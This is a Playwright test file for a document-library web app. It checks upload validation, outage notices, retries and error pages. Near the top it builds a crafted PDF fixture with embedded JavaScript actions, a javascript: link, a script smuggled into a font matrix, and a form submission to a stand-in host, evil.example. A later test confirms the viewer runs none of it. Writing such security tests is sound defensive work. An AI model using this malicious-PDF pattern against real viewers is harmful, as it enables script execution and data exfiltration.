import { readFile } from 'node:fs/promises'
import type { Request, WebSocketRoute } from '@playwright/test'
import { backend, drop, expect, fixture, test } from './fixtures.ts'

const SCRIPT = 'globalThis.stolen = 1; app.alert("stolen"); app.launchURL("https://evil.example/")'

/** A PDF with scripts for opening, closing and showing a page; a script link, a form button, and a script in a font's
 *  metrics. It has no cross-reference table; parsers find the objects anyway. */
const ARMED_PDF = `%PDF-1.7
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA <</WC 6 0 R>> /Names <</JavaScript <</Names [(a) 6 0 R]>>>>
  /AcroForm <</Fields [8 0 R]>>>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Contents 4 0 R /AA <</O 6 0 R>> /Annots [7 0 R 8 0 R]
  /Resources <</Font <</F1 5 0 R>>>>>> endobj
4 0 obj <</Length 58>> stream
BT /F1 18 Tf 40 340 Td (The lamp is lit at dusk.) Tj ET   
endstream endobj
5 0 obj <</Type /Font /Subtype /Type1 /BaseFont /Helvetica
  /FontMatrix [1 2 3 4 5 (0\\); globalThis.stolen = 1; //)]>> endobj
6 0 obj <</S /JavaScript /JS (${SCRIPT})>> endobj
7 0 obj <</Type /Annot /Subtype /Link /Rect [0 200 400 330] /A <</S /URI /URI (javascript:globalThis.stolen=1)>>>> endobj
8 0 obj <</Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 400 190]
  /A <</S /SubmitForm /F (https://evil.example/)>> /AA <</E 6 0 R /D 6 0 R>>>> endobj
trailer <</Root 1 0 R>>
%%EOF`

test('empty, misnamed and oversized files are rejected before the upload, with advice', async ({ page, library }) => {
  const sent: string[] = []
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().includes('/storage/v1/')) sent.push(request.url())
  })
  expect(library).toBeTruthy()
  await page.getByLabel('Files to add').setInputFiles([
    { name: 'empty.txt', mimeType: 'text/plain', buffer: Buffer.alloc(0) },
    { name: 'lying.pdf', mimeType: 'application/pdf', buffer: await readFile(fixture('lying.pdf')) },
  ])
  const uploads = page.getByRole('region', { name: 'Uploads' })
  await expect(uploads.getByText('This file is empty')).toBeVisible()
  await expect(uploads.getByText('but its contents aren’t that')).toBeVisible()

  // More bytes than Playwright passes by value, so the file is created in the page.
  await page.evaluate(() => {
    const data = new DataTransfer()
    data.items.add(new File([new Uint8Array(60 * 1024 * 1024)], 'huge.pdf'))
    document.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }))
  })
  await expect(uploads.getByText('This file is 60 MB; the limit is 50 MB')).toBeVisible()
  expect(sent).toEqual([])
})

for (const [name, cause] of [
  ['damaged', /is damaged and can’t be opened/],
  ['encrypted', /protected with a password/],
] as const) {
  test(`a PDF that is ${name} says so on its card and can be retried`, async ({ page, library }) => {
    expect(library).toBeTruthy()
    await page.getByLabel('Files to add').setInputFiles(fixture(`${name}.pdf`))
    const card = page.getByRole('article', { name })
    await expect(card.getByText(cause)).toBeVisible({ timeout: 120_000 })
    await expect(card.getByRole('button', { name: 'Read it again' })).toBeVisible()
    await card.getByRole('link').first().click()
    await expect(page.getByRole('heading', { name, level: 1 })).toBeVisible()
    await page.getByRole('button', { name: /^Actions for/ }).click()
    await expect(page.getByRole('menuitem', { name: 'Download' })).toBeVisible()
  })
}

test('a file that was already uploaded is recognized before the upload', { tag: '@nightly' }, async ({
  page,
  library,
}) => {
  expect(library).toBeTruthy()
  const file = { name: 'lighthouse.md', type: '', bytes: await readFile(fixture('lighthouse.md')) }
  await drop(page, [file])
  await expect(page.getByRole('region', { name: 'Uploads' }).getByText('On the shelf')).toBeVisible()
  await drop(page, [{ ...file, name: 'copy of it.md' }])
  await expect(page.getByRole('region', { name: 'Uploads' }).getByText('Already here as')).toBeVisible()
})

test('an unreachable backend is reported on every screen, which recovers by itself', async ({ page, library }) => {
  const notice = page
    .getByRole('status')
    .filter({ hasText: 'Can’t reach the server. What you see may be out of date.' })
  const sockets: WebSocketRoute[] = []
  await page.routeWebSocket(/realtime/, (socket) => {
    sockets.push(socket)
    socket.connectToServer()
  })
  const name = page.getByLabel('Name')
  const isInsights = (request: Request) => request.url().includes('library_insights')
  // The sidebar asks for this again only while something is being read.
  const progress = `${backend.url}/rest/v1/rpc/indexing_progress`
  await page.route(progress, (route) => route.abort('connectionrefused'))
  await page.goto(`/l/${library}`)
  await expect(notice).toBeVisible()
  await page.unroute(progress)
  await expect(notice).toHaveCount(0)

  await page.goto('/settings/profile')
  await name.fill('Ada Byron')
  await expect.poll(() => sockets.length).toBeGreaterThan(1)
  await page.route(`${backend.url}/**`, (route) => route.abort('connectionrefused'))
  // This screen doesn't load anything more.
  await sockets.at(-1)?.close()
  await expect(notice).toBeVisible()
  await page.unroute(`${backend.url}/**`)
  await expect(notice).toHaveCount(0)
  await expect(name).toHaveValue('Ada Byron')

  await page.route(`${backend.url}/**`, (route) => route.abort('connectionrefused'))
  // Two lines on a phone, also in a language with long words.
  await page.setViewportSize({ width: 390, height: 844 })
  await page.evaluate(() => localStorage.setItem('carrel.appearance', JSON.stringify({ language: 'de' })))
  await page.goto(`/l/${library}/insights`)
  const text = page.getByText('Der Server ist nicht erreichbar. Die Anzeige')
  await expect(text).toBeVisible()
  expect(await text.evaluate(({ clientHeight, scrollHeight }) => [clientHeight, scrollHeight])).toEqual([32, 32])
  await page.evaluate(() => localStorage.removeItem('carrel.appearance'))
  await page.reload()
  await expect(page.getByRole('heading', { name: 'Can’t reach the server' })).toBeVisible()
  await expect(notice.getByRole('button', { name: 'Try again' })).toBeVisible()
  // Retries keep the view, and with it the focus; screen readers announce a new one again.
  const retry = page.getByRole('alert').getByRole('button', { name: 'Try again' })
  await retry.evaluate((button) => button.setAttribute('data-first', ''))
  await retry.focus()
  for (let attempt = 0; attempt < 2; attempt++) await page.waitForEvent('requestfailed', isInsights)
  await page.keyboard.press('Enter')
  await page.waitForEvent('requestfailed', isInsights)
  await expect(retry).toBeFocused()
  await expect(retry).toHaveAttribute('data-first')
  await page.unroute(`${backend.url}/**`)
  await expect(page.getByRole('heading', { name: 'Insights' })).toBeVisible()
  await expect(notice).toHaveCount(0)
})

test('failing share and invitation links are reported, without links to libraries', {
  tag: '@nightly',
}, async ({ page }) => {
  await page.route(`${backend.url}/rest/**`, (route) => route.abort('connectionrefused'))
  for (const [path, around] of [
    ['/s/none', 'Read-only'],
    ['/invite/none', 'Invitation'],
  ] as const) {
    await page.goto(path)
    await expect(page.getByRole('heading', { name: 'Can’t reach the server' })).toBeVisible()
    await expect(page.getByText(around, { exact: true })).toBeVisible()
    await expect(page.getByRole('link', { name: 'My libraries' })).toHaveCount(0)
  }
  await page.unroute(`${backend.url}/rest/**`)
  await page.getByRole('button', { name: 'Try again' }).click()
  await expect(page.getByRole('heading', { name: 'This invitation does not exist' })).toBeVisible()
})

test('a failed search is reported and can be retried', { tag: '@nightly' }, async ({ page, library }) => {
  await page.goto(`/l/${library}/search`)
  await page.getByRole('heading', { name: 'Find the passage' }).waitFor()
  await page.route(`${backend.url}/rest/**`, (route) => route.abort('connectionrefused'))
  await page.getByRole('searchbox').fill('lamp')
  await expect(page.getByRole('heading', { name: 'Can’t reach the server' })).toBeVisible()
  await page.unroute(`${backend.url}/rest/**`)
  await page.getByRole('button', { name: 'Try again' }).click()
  await expect(page.getByRole('heading', { name: 'No matching passages' })).toBeVisible()
})

test('a library with unanswered requests is reported', { tag: '@nightly' }, async ({ page, library }) => {
  await page.route(`${backend.url}/rest/v1/rpc/search_passages`, () => undefined)
  await page.goto(`/l/${library}/search?q=lamp`)
  await expect(page.getByRole('heading', { name: 'Can’t reach the server' })).toBeVisible()
})

test('a PDF is shown without running its scripts', async ({ page, library }) => {
  expect(library).toBeTruthy()
  const foreign: string[] = []
  page.on('request', (request) => request.url().includes('evil.example') && foreign.push(request.url()))
  page.on('dialog', (dialog) => foreign.push(dialog.message()))
  await page
    .getByLabel('Files to add')
    .setInputFiles({ name: 'armed.pdf', mimeType: 'application/pdf', buffer: Buffer.from(ARMED_PDF, 'latin1') })
  await page.getByRole('article', { name: 'Armed' }).getByRole('link').first().click()
  const sheet = page.locator('[data-page="1"]')
  await expect(sheet.getByText('The lamp is lit at dusk.')).toBeVisible()
  for (const position of [
    { x: 100, y: 120 },
    { x: 100, y: 240 },
  ]) {
    await sheet.click({ position })
  }
  await expect(sheet.locator('a, button, input, iframe')).toHaveCount(0)
  await expect(page).toHaveURL(/\/l\/[^/]+\/d\/[^/]+/)
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false)
  expect(foreign).toEqual([])
})

test('a PDF with too many pages is reported and can be downloaded', { tag: '@nightly' }, async ({ page, library }) => {
  expect(library).toBeTruthy()
  const numbers = Array.from({ length: 5001 }, (_, index) => index + 3)
  const pdf = [
    '%PDF-1.7',
    '1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj',
    `2 0 obj <</Type /Pages /MediaBox [0 0 9 9] /Count 5001 /Kids [${numbers.map((n) => `${n} 0 R`).join(' ')}]>> endobj`,
    ...numbers.map((n) => `${n} 0 obj <</Type /Page /Parent 2 0 R>> endobj`),
    'trailer <</Root 1 0 R>>\n%%EOF',
  ]
  await page
    .getByLabel('Files to add')
    .setInputFiles({ name: 'endless.pdf', mimeType: 'application/pdf', buffer: Buffer.from(pdf.join('\n')) })
  await page.getByRole('article', { name: 'Endless' }).getByRole('link').first().click()
  await expect(page.getByText('has too many pages to show here')).toBeVisible()
  await page.getByRole('button', { name: /^Actions for/ }).click()
  await expect(page.getByRole('menuitem', { name: 'Download' })).toBeVisible()
})

test('a missing document and an unknown URL show an error page', async ({ page, library }) => {
  const errors: string[] = []
  page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
  await page.goto(`/l/${library}/d/7b0e6a52-5a0e-4d3c-9a52-1f3f0f5d0001`)
  await expect(page.getByRole('heading', { name: 'There’s nothing here' })).toBeVisible()
  expect(errors).toEqual([])
  await page.goto('/no/such/page')
  await expect(page.getByRole('heading', { name: 'There is no page here' })).toBeVisible()
})
